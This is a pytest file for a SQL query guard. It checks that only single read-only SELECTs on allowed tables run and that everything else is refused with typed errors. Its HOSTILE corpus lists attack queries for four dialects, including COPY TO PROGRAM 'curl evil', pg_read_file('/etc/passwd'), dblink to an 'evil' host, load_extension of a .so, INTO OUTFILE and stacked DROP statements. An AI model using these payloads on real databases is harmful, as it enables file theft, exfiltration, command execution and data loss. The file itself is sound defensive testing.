"""The guard: what may run as a query, and what is refused with which error."""

import re
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hocket.workers.sql.errors import (
    SqlConstructRefused,
    SqlFunctionRefused,
    SqlNotOneSelect,
    SqlParametersWrong,
    SqlRefused,
    SqlTableRefused,
    SqlUnreadable,
)
from hocket.workers.sql.guard.guard import CheckedQuery, check_query
from hocket.workers.sql.guard.names import parse_pattern
from hocket.workers.sql.guard.reading import MAX_SQL_CHARS
from support import defog

TABLES = {
    "postgres": ("public.*", "shop.orders"),
    "sqlite": ("main.*",),
    "mysql": ("shop.orders", "shop.users"),
    "duckdb": ("main.*",),
}


def check(sql: str, dialect: str = "postgres", max_rows: int = 100) -> CheckedQuery:
    return check_query(
        sql,
        dialect=dialect,
        tables=TABLES[dialect],
        default_schema="shop" if dialect == "mysql" else None,
        max_rows=max_rows,
    )


HOSTILE: dict[str, dict[type[SqlRefused], list[str]]] = {
    "postgres": {
        SqlNotOneSelect: [
            "",
            "-- nothing here",
            ";",
            "SELECT 1; SELECT 2",
            "SELECT 1; DROP TABLE users",
            "SELECT 1;;DELETE FROM users;",
            "DROP TABLE users",
            "DELETE FROM users",
            "UPDATE users SET name = 'x'",
            "INSERT INTO users VALUES (1)",
            "TRUNCATE users",
            "ALTER TABLE users ADD COLUMN x int",
            "CREATE TABLE x AS SELECT 1",
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "MERGE INTO users u USING t ON u.id = t.id WHEN MATCHED THEN DELETE",
            "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
            "WITH u AS (UPDATE users SET id = 1 RETURNING id) SELECT * FROM u",
            "WITH i AS (INSERT INTO users VALUES (1) RETURNING *) TABLE i",
            "SELECT * FROM (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) AS x",
            "WITH a AS (SELECT 1) INSERT INTO users SELECT * FROM a",
            "WITH a AS (SELECT 1) DELETE FROM users",
            "EXPLAIN SELECT 1",
            "EXPLAIN ANALYZE DELETE FROM users",
            "COPY users TO '/tmp/x'",
            "COPY (SELECT * FROM users) TO PROGRAM 'curl evil'",
            "CALL do_it()",
            "DO $$ BEGIN PERFORM 1; END $$",
            "SET ROLE postgres",
            "SET statement_timeout = 0",
            "RESET ALL",
            "SHOW ALL",
            "LISTEN x",
            "LOCK TABLE users",
            "VACUUM FULL users",
            "ANALYZE users",
            "GRANT ALL ON users TO public",
            "REVOKE ALL ON users FROM public",
            "BEGIN",
            "COMMIT",
            "ROLLBACK",
            "PREPARE p AS SELECT 1",
            "EXECUTE p",
            "DECLARE c CURSOR FOR SELECT 1",
            "REFRESH MATERIALIZED VIEW v",
            "COMMENT ON TABLE users IS 'x'",
            "SELECT 1 /* */ ; /* */ DROP TABLE users -- ",
            "VALUES (1)",
        ],
        SqlConstructRefused: [
            "SELECT * INTO stolen FROM users",
            "SELECT * INTO TEMP stolen FROM users",
            "SELECT * FROM users FOR UPDATE",
            "SELECT * FROM users FOR SHARE SKIP LOCKED",
            "SELECT * FROM users FOR NO KEY UPDATE",
            "SELECT * FROM (SELECT * FROM users FOR UPDATE) AS u",
            "SELECT 'pg_shadow'::regclass",
            "SELECT repeat('<a>', 100000000)::xml",
            "SELECT CAST(name AS pg_catalog.xml) FROM users",
            "SELECT xml '<a/>'",
            "SELECT r.a FROM json_to_record('{}') AS r(a xml)",
            "SELECT CAST('secret.keys' AS regclass)",
            "SELECT * FROM otherdb.public.users",
            "SELECT id OPERATOR(evil.+) 1 FROM users",
            "WITH RECURSIVE a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a",
        ],
        SqlFunctionRefused: [
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT PG_READ_FILE('/etc/passwd')",
            "SELECT \"pg_read_file\"('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            'SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')',
            "SELECT * FROM pg_read_file('/etc/passwd') AS t",
            "SELECT * FROM pg_catalog.pg_ls_dir('/')",
            "SELECT * FROM ROWS FROM (pg_ls_dir('/')) AS x",
            "SELECT * FROM users, LATERAL pg_ls_dir(users.name) AS x",
            "SELECT pg_sleep(1000)",
            "SELECT 1 WHERE pg_sleep(5) IS NULL",
            "SELECT 1 ORDER BY pg_sleep(5)",
            "SELECT CASE WHEN true THEN pg_sleep(5) END",
            "SELECT (SELECT pg_sleep(5))",
            "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM users",
            "SELECT 1 LIMIT (SELECT pg_terminate_backend(1))::int",
            "SELECT pg_terminate_backend(pid) FROM users",
            "SELECT pg_cancel_backend(1)",
            "SELECT pg_reload_conf()",
            "SELECT pg_advisory_lock(1)",
            "SELECT pg_notify('x', 'y')",
            "SELECT pg_backend_pid()",
            "SELECT set_config('statement_timeout', '0', false)",
            "SELECT current_setting('data_directory')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(1, '/tmp/x')",
            "SELECT lo_get(1)",
            "SELECT loread(1, 2)",
            "SELECT nextval('s')",
            "SELECT setval('s', 1)",
            "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
            "SELECT dblink_exec('host=evil', 'DROP TABLE x')",
            "SELECT xpath('//a', body) FROM users",
            "SELECT pg_catalog.xpath('//a', body) FROM users",
            "SELECT xpath_exists('//a', body) FROM users",
            "SELECT xmlexists('//a', body) FROM users",
            "SELECT xml_is_well_formed(name) FROM users",
            "SELECT (users.name).xml_is_well_formed FROM users",
            "SELECT (users.name).xml FROM users",
            "SELECT xml(name) FROM users",
            "SELECT t.n FROM users, XMLTABLE('//a' PASSING body COLUMNS n int) AS t",
            "SELECT query_to_xml('SELECT * FROM secret.keys', true, true, '')",
            "SELECT table_to_xml('secret.keys', true, true, '')",
            "SELECT database_to_xml(true, true, '')",
            "SELECT cursor_to_xml('c', 1, true, true, '')",
            "SELECT * FROM ts_stat('SELECT vector FROM secret.keys')",
            "SELECT ts_rewrite('a'::tsquery, 'SELECT a, b FROM secret.keys')",
            "SELECT * FROM crosstab('SELECT a, b, c FROM secret.keys') AS t(a int)",
            "SELECT has_table_privilege('secret.keys', 'SELECT')",
            "SELECT to_regclass('secret.keys')",
            "SELECT inet_server_addr()",
            "SELECT txid_current()",
            "SELECT version()",
            "SELECT my_own_function(1)",
            "SELECT public.my_own_function(1)",
            "SELECT secret.lower('A')",
            "SELECT * FROM secret.lower('A')",
            "SELECT evil.pg_catalog.lower('A')",
            "SELECT (my_own_function(1)).field",
            "SELECT * FROM ROWS FROM (secret.lower('A')) AS x",
            "SELECT * FROM users, LATERAL secret.lower(users.name) AS x",
            "SELECT http_get('http://evil')",
            "SELECT pg_stat_file('x'), 1 FROM users GROUP BY 1",
            "WITH f AS (SELECT pg_ls_dir('.') AS n) SELECT n FROM f",
            "SELECT array(SELECT pg_ls_dir('.'))",
            "SELECT row_number() OVER (ORDER BY pg_sleep(1)) FROM users",
        ],
        SqlTableRefused: [
            "SELECT * FROM pg_shadow",
            "SELECT * FROM pg_catalog.pg_shadow",
            'SELECT * FROM "pg_catalog"."pg_authid"',
            "TABLE pg_authid",
            "SELECT * FROM pg_stat_activity",
            "SELECT * FROM information_schema.tables",
            "SELECT * FROM secret.keys",
            "SELECT * FROM SECRET.KEYS",
            'SELECT * FROM "secret"."keys"',
            'SELECT * FROM secret."keys" AS users',
            "SELECT * FROM shop.customers",
            'SELECT * FROM "Shop".orders',
            'SELECT * FROM shop."Orders"',
            "SELECT * FROM users JOIN secret.keys USING (id)",
            "SELECT * FROM users, secret.keys",
            "SELECT * FROM users WHERE id IN (SELECT id FROM secret.keys)",
            "SELECT (SELECT k FROM secret.keys LIMIT 1)",
            "SELECT * FROM users WHERE EXISTS (SELECT 1 FROM secret.keys)",
            "SELECT 1 UNION ALL SELECT k FROM secret.keys",
            "SELECT 1 EXCEPT (SELECT 2 INTERSECT SELECT k FROM secret.keys)",
            "WITH a AS (SELECT * FROM secret.keys) SELECT * FROM a",
            "WITH RECURSIVE a AS (SELECT 1 UNION ALL SELECT k FROM secret.keys) SELECT * FROM a",
            "WITH keys AS (SELECT 1) SELECT * FROM secret.keys",
            "SELECT * FROM ONLY secret.keys",
            "SELECT * FROM secret.keys TABLESAMPLE SYSTEM (1)",
            "SELECT * FROM (secret.keys CROSS JOIN users)",
            "SELECT * FROM users LEFT JOIN LATERAL (SELECT * FROM secret.keys) k ON true",
            "SELECT * FROM users ORDER BY (SELECT k FROM secret.keys)",
            "SELECT 1 LIMIT (SELECT k FROM secret.keys)",
            "SELECT ARRAY(SELECT k FROM secret.keys)",
            "SELECT count(*) FILTER (WHERE id IN (SELECT k FROM secret.keys)) FROM users",
            "SELECT * FROM generate_series(1, (SELECT k FROM secret.keys)) AS g",
            # the CTE's name is out of scope where the table is read
            "SELECT * FROM (WITH pg_authid AS (SELECT 1) SELECT * FROM pg_authid) a, pg_authid",
            "(WITH pg_authid AS (SELECT 1) SELECT 1) UNION SELECT 2 FROM pg_authid",
            "WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid",
            "WITH a AS (SELECT * FROM pg_user), pg_user AS (SELECT 1) SELECT * FROM a",
            'WITH "PG_USER" AS (SELECT 1) SELECT * FROM pg_user',
        ],
        SqlUnreadable: [
            "SELECT LATERAL .",
            "SELECT $1",
            "SELECT 1abc",
            "SELECT !! 'a'::tsquery",
            "NOTIFY x, 'y'",
            "SELECT",
            "SELECT * FROM",
            "SELECT * FRM users WHERE (",
            "SELECT 'unterminated",
            "SELECT 1 \x00 FROM users",
            "SELECT '\x01a\x02'",
            "SELECT " + "(" * 3000 + "1" + ")" * 3000,
            "SELECT '" + "x" * MAX_SQL_CHARS + "'",
        ],
        SqlParametersWrong: [
            "SELECT ?",
            "SELECT %s",
            "SELECT id FROM users WHERE at >= :from",
            "SELECT " + ", ".join(f":p{n}" for n in range(257)),
        ],
    },
    "sqlite": {
        SqlNotOneSelect: [
            "ATTACH DATABASE '/etc/x' AS x",
            "DETACH DATABASE main",
            "PRAGMA table_info(users)",
            "PRAGMA writable_schema = 1",
            "VACUUM INTO '/tmp/copy'",
            "REPLACE INTO users VALUES (1)",
            "REINDEX users",
            "EXPLAIN QUERY PLAN SELECT 1",
        ],
        SqlFunctionRefused: [
            "SELECT load_extension('/tmp/evil.so')",
            "SELECT LOAD_EXTENSION('/tmp/evil.so', 'entry')",
            "SELECT readfile('/etc/passwd')",
            "SELECT writefile('/tmp/x', 'y')",
            "SELECT edit('x')",
            "SELECT fts3_tokenizer('simple', x'00')",
            "SELECT * FROM pragma_table_info('users')",
            "SELECT * FROM pragma_database_list()",
            "SELECT hex(randomblob(1000000000))",
            "SELECT zeroblob(1000000000)",
            "SELECT sqlite_compileoption_get(1)",
            "SELECT json_patch(a, b) FROM users",
            "SELECT JSONB_PATCH(a, b) FROM users",
            "SELECT unhex(a, b) FROM users",
        ],
        SqlTableRefused: [
            "SELECT * FROM sqlite_master",
            "SELECT * FROM SQLITE_SCHEMA",
            "SELECT * FROM main.sqlite_master",
            'SELECT * FROM "sqlite_master"',
            "SELECT * FROM [sqlite_master]",
            "SELECT * FROM `sqlite_master`",
            "SELECT * FROM sqlite_temp_master",
            "SELECT * FROM temp.secrets",
            "SELECT * FROM pragma_table_list",
            "SELECT * FROM dbstat",
            "SELECT * FROM sqlite_dbpage",
        ],
    },
    "mysql": {
        SqlRefused: [
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            "SELECT * FROM users INTO DUMPFILE '/tmp/x'",
            "SELECT id INTO @a FROM users",
            "SELECT @@version",
            "SELECT @a := 1",
            "SELECT @@global.secure_file_priv",
            "SELECT /*+ SET_VAR(max_execution_time=0) */ 1",
            "SELECT * FROM users LOCK IN SHARE MODE",
            "HANDLER users OPEN",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE users",
            "KILL 1",
            "WITH RECURSIVE a AS (SELECT * FROM keyring), keyring AS (SELECT 1) SELECT * FROM a",
        ],
        SqlFunctionRefused: [
            "SELECT sleep(5)",
            "SELECT benchmark(1000000000, md5('x'))",
            "SELECT load_file('/etc/passwd')",
            "SELECT get_lock('x', 10)",
            "SELECT sys_exec('id')",
            "SELECT user()",
            "SELECT extractvalue(1, concat(0x7e, (SELECT 1)))",
        ],
        SqlTableRefused: [
            "SELECT * FROM mysql.user",
            "SELECT * FROM information_schema.tables",
            "SELECT * FROM SHOP.ORDERS",
            "SELECT * FROM Orders",
        ],
    },
    "duckdb": {
        SqlRefused: [
            "SELECT * FROM 'secrets.csv'",
            'SELECT * FROM "/etc/passwd"',
            "FROM 's3://bucket/x.parquet'",
            "SELECT * FROM read_csv('/etc/passwd')",
            "SELECT * FROM read_text('/etc/passwd')",
            "SELECT * FROM read_parquet('x')",
            "SELECT * FROM glob('/*')",
            "SELECT getenv('HOME')",
            "SELECT 'HOME'.getenv()",
            "SELECT my_own_function(1).field",
            "SELECT my_own_function(1).lower()",
            "SELECT * FROM query('SELECT 1')",
            "SELECT * FROM query_table('secrets')",
            "SELECT * FROM duckdb_secrets()",
            "SELECT * FROM duckdb_settings",
            "SELECT * FROM sqlite_scan('x.db', 't')",
            "INSTALL httpfs",
            "LOAD httpfs",
            "ATTACH 'x.db'",
            "COPY users TO 'x.csv'",
            "EXPORT DATABASE 'x'",
            "PRAGMA database_list",
            "SUMMARIZE users",
            "DESCRIBE users",
            "SET enable_external_access = true",
        ],
    },
}

CASES = [
    pytest.param(dialect, error, sql, id=f"{dialect}-{error.code}-{number}")
    for dialect, by_error in HOSTILE.items()
    for error, texts in by_error.items()
    for number, sql in enumerate(texts)
]


@pytest.mark.parametrize(("dialect", "error", "sql"), CASES)
def test_a_hostile_statement_is_refused(dialect: str, error: type[SqlRefused], sql: str) -> None:
    with pytest.raises(error) as caught:
        check(sql, dialect)
    assert not caught.value.retryable
    assert "{" not in str(caught.value)
    assert caught.value.info().code == caught.value.code


FRIENDLY = [
    ("postgres", "SELECT * FROM users", "SELECT * FROM public.users LIMIT 101"),
    ("postgres", "select * from USERS u where u.id = :id", None),
    ("postgres", 'SELECT * FROM public."Users"', 'SELECT * FROM public."Users" LIMIT 101'),
    ("postgres", "SELECT * FROM users LIMIT 5", "SELECT * FROM public.users LIMIT 5"),
    ("postgres", "SELECT * FROM users LIMIT 5000 OFFSET 3", None),
    ("postgres", "SELECT 1 UNION SELECT id FROM shop.orders ORDER BY 1", None),
    ("postgres", "(SELECT id FROM users ORDER BY id LIMIT 3)", None),
    ("postgres", "(SELECT 1) UNION ALL (SELECT 2) LIMIT 1", None),
    ("postgres", "WITH users AS (SELECT * FROM users) SELECT * FROM users", None),
    ("postgres", "WITH keys AS (SELECT 1 AS k) SELECT * FROM keys", None),
    ("postgres", "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", None),
    (
        "postgres",
        "WITH a AS (SELECT 1 AS x) SELECT * FROM users WHERE id IN (SELECT x FROM a)",
        None,
    ),
    ("postgres", "WITH a AS (SELECT 1 AS x) SELECT * FROM (SELECT * FROM a) b, a", None),
    (
        "postgres",
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT n FROM t",
        None,
    ),
    ("postgres", "WITH a AS (VALUES (1, 'x')) SELECT * FROM a", None),
    ("postgres", "SELECT * FROM (VALUES (1), (2)) AS v(a)", None),
    ("postgres", "SELECT 1 -- DROP TABLE users", "SELECT 1 LIMIT 101"),
    ("postgres", "SELECT 'DROP TABLE users; -- ' AS harmless", None),
    ("postgres", "SELECT $$it's$$ AS s, E'a\\nb', U&'\\0061'", None),
    ("postgres", "SELECT a::numeric(10, 2), b::date, '{1,2}'::int[] FROM users", None),
    (
        "postgres",
        "SELECT x::timestamptz AT TIME ZONE 'UTC', data->>'k', data #>> '{a,b}' FROM users",
        None,
    ),
    (
        "postgres",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) FROM shop.orders",
        None,
    ),
    ("postgres", "SELECT * FROM users, unnest(tags) WITH ORDINALITY AS t(tag, n)", None),
    ("postgres", "SELECT * FROM users, jsonb_array_elements(data) AS e", None),
    (
        "postgres",
        "SELECT generate_series(1, 3), string_agg(name, ',' ORDER BY name) FROM users",
        None,
    ),
    ("postgres", "SELECT rank() OVER w FROM users WINDOW w AS (PARTITION BY a ORDER BY b)", None),
    ("postgres", "SELECT pg_catalog.lower(name) FROM users", None),
    ("postgres", "SELECT name FROM users WHERE id = ANY(:ids) AND name ILIKE :pattern", None),
    ("postgres", "SELECT a FROM users GROUP BY GROUPING SETS ((a), ()) HAVING count(*) > 1", None),
    ("postgres", "SELECT DISTINCT ON (a) a, b FROM users ORDER BY a, b DESC NULLS LAST", None),
    ("postgres", "TABLE users", "SELECT * FROM public.users LIMIT 101"),
    ("postgres", "SELECT 1;", "SELECT 1 LIMIT 101"),
    ("sqlite", "SELECT strftime('%Y', d), group_concat(x) FROM users, json_each(users.j)", None),
    ("sqlite", "SELECT * FROM USERS WHERE name = :name", None),
    ("mysql", "SELECT `id`, date_format(d, '%Y') FROM users", None),
    ("mysql", "SELECT 1 FROM dual", None),
    ("duckdb", "FROM users", "SELECT * FROM main.users LIMIT 101"),
    ("duckdb", "SELECT * EXCLUDE (a) FROM users QUALIFY row_number() OVER (ORDER BY b) = 1", None),
]


@pytest.mark.parametrize(("dialect", "sql", "written"), FRIENDLY)
def test_an_ordinary_query_is_accepted(dialect: str, sql: str, written: str | None) -> None:
    checked = check(sql, dialect)
    if written is not None:
        assert checked.sql == written


def test_a_cte_that_shadows_a_table_reads_the_table_only_inside() -> None:
    checked = check("WITH users AS (SELECT * FROM users) SELECT * FROM users")
    assert checked.sql == (
        "WITH users AS (SELECT * FROM public.users) SELECT * FROM users LIMIT 101"
    )
    assert checked.tables == ("public.users",)


def test_tables_and_columns_are_named_in_full_where_the_text_says_so() -> None:
    checked = check("SELECT u.name, o.total FROM users u JOIN shop.orders o ON o.user_id = u.id")
    assert checked.tables == ("public.users", "shop.orders")
    assert checked.columns == (
        "public.users.id",
        "public.users.name",
        "shop.orders.total",
        "shop.orders.user_id",
    )


def test_parameters_are_cut_out_of_the_text_and_colons_elsewhere_stay() -> None:
    checked = check(
        "SELECT ':no', a::int, b[1:2] FROM users WHERE a = :yes AND b < :more OR c = :yes"
    )
    assert checked.parameters == ("yes", "more")
    assert checked.segments[1::2] == ("yes", "more", "yes")
    assert "':no'" in checked.segments[0]


@pytest.mark.parametrize(
    ("limit", "written"),
    [
        ("LIMIT 5", "LIMIT 5"),
        ("LIMIT 11", "LIMIT 11"),
        ("LIMIT 12", "LIMIT 11"),
        ("LIMIT 12 OFFSET 7", "LIMIT 11 OFFSET 7"),
        ("", "LIMIT 11"),
    ],
)
def test_a_plain_limit_is_lowered_in_place(limit: str, written: str) -> None:
    assert check(f"SELECT id FROM users ORDER BY id {limit}", max_rows=10).sql.endswith(written)


@pytest.mark.parametrize(
    "limit",
    [
        "LIMIT ALL",
        "LIMIT :n",
        "LIMIT 1 + 1",
        "FETCH FIRST 20 ROWS WITH TIES",
        "FETCH FIRST ROW ONLY",
    ],
)
def test_any_other_limit_is_bounded_from_outside(limit: str) -> None:
    sql = check(f"SELECT id FROM users ORDER BY id {limit}", max_rows=10).sql
    assert sql.startswith("SELECT * FROM (SELECT id")
    assert sql.endswith("AS hocket_rows LIMIT 11")


def test_a_negative_limit_does_not_lift_the_bound() -> None:
    assert check("SELECT 1 LIMIT -1", "sqlite", 10).sql.endswith("LIMIT 11")


def test_a_table_must_be_in_both_lists() -> None:
    def both(sql: str) -> CheckedQuery:
        return check_query(
            sql, dialect="postgres", tables=("public.*",), within=("public.a",), max_rows=1
        )

    assert both("SELECT * FROM a").tables == ("public.a",)
    with pytest.raises(SqlTableRefused, match=r"public\.b"):
        both("SELECT * FROM b")


def test_a_system_catalog_is_readable_only_when_it_is_named() -> None:
    checked = check_query(
        "SELECT relname FROM pg_class",
        dialect="postgres",
        tables=("pg_catalog.pg_class",),
        max_rows=1,
    )
    assert checked.sql == "SELECT relname FROM pg_catalog.pg_class LIMIT 2"
    assert check_query(
        "SELECT name FROM sqlite_master",
        dialect="sqlite",
        tables=("main.sqlite_master",),
        max_rows=1,
    )


def test_an_operator_can_allow_an_own_function_but_not_a_denied_one() -> None:
    def allowing(sql: str, name: str) -> CheckedQuery:
        return check_query(
            sql, dialect="postgres", tables=(), functions_allowed=(name,), max_rows=1
        )

    assert allowing("SELECT tax(1)", "tax")
    assert allowing("SELECT shop.tax(1)", "shop.tax")
    assert allowing("SELECT * FROM shop.tax(1)", "shop.tax")
    with pytest.raises(SqlFunctionRefused):
        allowing("SELECT shop.tax(1)", "tax")
    with pytest.raises(SqlFunctionRefused, match="cannot be allowed"):
        allowing("SELECT pg_sleep(1)", "pg_sleep")


def test_an_operator_can_allow_xml_which_no_time_stops() -> None:
    def written(sql: str, **more: Any) -> str:
        return check_query(
            sql,
            dialect="postgres",
            tables=["public.*"],
            default_schema="public",
            max_rows=9,
            **more,
        ).sql

    allowed = {"functions_allowed": ("xpath", "xmltable"), "types_allowed": ("xml",)}
    assert "XPATH('//a', body)" in written("SELECT xpath('//a', body) AS x FROM users", **allowed)
    assert "XMLTABLE(" in written(
        "SELECT t.n FROM users, XMLTABLE('//a' PASSING body COLUMNS n int) AS t",
        **allowed,
    )
    assert "AS XML" in written("SELECT CAST(name AS xml) AS x FROM users", **allowed)
    assert "XMLELEMENT" in written("SELECT xmlelement(NAME a, name) AS x FROM users")


def test_an_operator_can_allow_what_sqlite_does_not_stop() -> None:
    checked = check_query(
        "SELECT json_patch(a, b) AS j FROM users",
        dialect="sqlite",
        tables=["main.*"],
        functions_allowed=("json_patch",),
        max_rows=9,
    )
    assert "JSON_PATCH(a, b)" in checked.sql


@pytest.mark.parametrize("dialect", ["postgres", "duckdb"])
def test_the_index_of_an_array_is_not_computed(dialect: str) -> None:
    sql = "SELECT tags[1 + 1][1] FROM users"  # computing costs more the deeper indexes nest
    assert "tags[1 + 1][1]" in check(sql, dialect).sql


def test_a_comment_never_reaches_the_database() -> None:
    sql = check("SELECT /*!50000 sleep(5), */ 1 -- x\n # y", "mysql").sql
    assert "sleep" not in sql


def test_a_name_that_only_unicode_folding_would_match_is_not_a_cte() -> None:
    with pytest.raises(SqlTableRefused):
        check_query(
            'WITH "é" AS (SELECT 1) SELECT * FROM É', dialect="postgres", tables=(), max_rows=1
        )


@pytest.mark.parametrize("pattern", ["users", "*.*", "*", "a.b.c", "public.", "public.user*", ""])
def test_a_pattern_that_is_not_schema_and_table_is_refused(pattern: str) -> None:
    with pytest.raises(SqlRefused, match="schema"):
        parse_pattern(pattern, "postgres")


@pytest.mark.skipif(not defog.is_here(), reason=defog.MISSING)
def test_every_gold_query_of_real_questions_is_accepted() -> None:
    assert defog.questions() == 118
    for one in defog.gold():
        assert check_query(one.sql, dialect="postgres", tables=defog.TABLES, max_rows=100), one


# ---- properties -----------------------------------------------------------------------------

NAMES = st.sampled_from(["users", "orders", "secret", "a", "b", "pg_authid", '"Users"'])


@st.composite
def queries(draw: st.DrawFn, depth: int = 3) -> str:
    if depth == 0:
        return f"SELECT 1 AS x FROM {draw(NAMES)}"
    inner = queries(depth=depth - 1)
    kind = draw(st.sampled_from(["cte", "recursive", "union", "sub", "where", "plain", "lateral"]))
    if kind in ("cte", "recursive"):
        word = "WITH RECURSIVE" if kind == "recursive" else "WITH"
        return f"{word} {draw(NAMES)} AS ({draw(inner)}) {draw(inner).removeprefix('WITH')}"
    if kind == "union":
        return f"({draw(inner)}) UNION ALL ({draw(inner)})"
    if kind == "sub":
        return f"SELECT 1 AS x FROM ({draw(inner)}) AS q, {draw(NAMES)} AS r"
    if kind == "where":
        return f"SELECT 1 AS x FROM {draw(NAMES)} AS r WHERE 1 IN ({draw(inner)})"
    if kind == "lateral":
        return f"SELECT 1 AS x FROM {draw(NAMES)} AS r CROSS JOIN LATERAL ({draw(inner)}) AS q"
    return f"SELECT 1 AS x FROM {draw(NAMES)}"


@given(queries())
def test_what_is_accepted_is_accepted_again_unchanged(sql: str) -> None:
    def attempt(text: str) -> CheckedQuery | None:
        try:
            return check_query(text, dialect="postgres", tables=("public.*",), max_rows=10)
        except SqlRefused:
            return None

    first = attempt(sql)
    if first is not None:
        assert attempt(first.sql) == first


@given(st.text(max_size=80))
@example("SELECT '")
@example("/*")
@example("$$")
@example("SELECT 1 \\")
def test_any_text_is_either_accepted_or_refused_with_a_typed_error(text: str) -> None:
    for dialect in TABLES:
        try:
            check(text, dialect)
        except SqlRefused as refusal:
            assert refusal.code.startswith("sql_")  # noqa: PT017 (acceptance is fine, too)


WORDS = st.sampled_from(
    "SELECT FROM WHERE users secret.keys pg_sleep ( ) , ; * 1 'x' AS WITH a UNION ALL DELETE INTO "
    'RETURNING FOR UPDATE :p :: int LIMIT ORDER BY -- /* */ $$ " . LATERAL VALUES EXISTS NOT'.split()
)


@given(st.lists(WORDS, max_size=25))
@example(["DELETE", "FROM", "users"])
def test_no_mixture_of_words_gets_past_the_tables_and_functions(words: list[str]) -> None:
    try:
        checked = check(" ".join(["SELECT", *words]))
    except SqlRefused:
        return
    assert all(table.startswith("public.") for table in checked.tables)
    bare = re.sub(r"'(?:[^']|'')*'|\"(?:[^\"]|\"\")*\"", "", checked.sql)
    # behind a dot a word is only a field's name, and DELETE within a SELECT is a column's
    assert not re.search(
        r"(?<!\.)\b(INTO|FOR UPDATE|FROM secret|pg_sleep\s*\()|(?:^|[();])\s*DELETE FROM",
        bare,
        re.I,
    )


def test_the_corpus_is_large_enough() -> None:
    assert len(CASES) >= 60


@pytest.mark.parametrize("table", ["secret", "main.secret", '"secret"', "[secret]"])
@pytest.mark.parametrize("left", ["a", "(a, 1)", "NOT a", "'guess'"])
def test_sqlite_reads_no_table_by_its_name_after_in(left: str, table: str) -> None:
    with pytest.raises(SqlRefused):
        check_query(
            f"SELECT {left} IN {table} FROM t", dialect="sqlite", tables=["main.t"], max_rows=1
        )
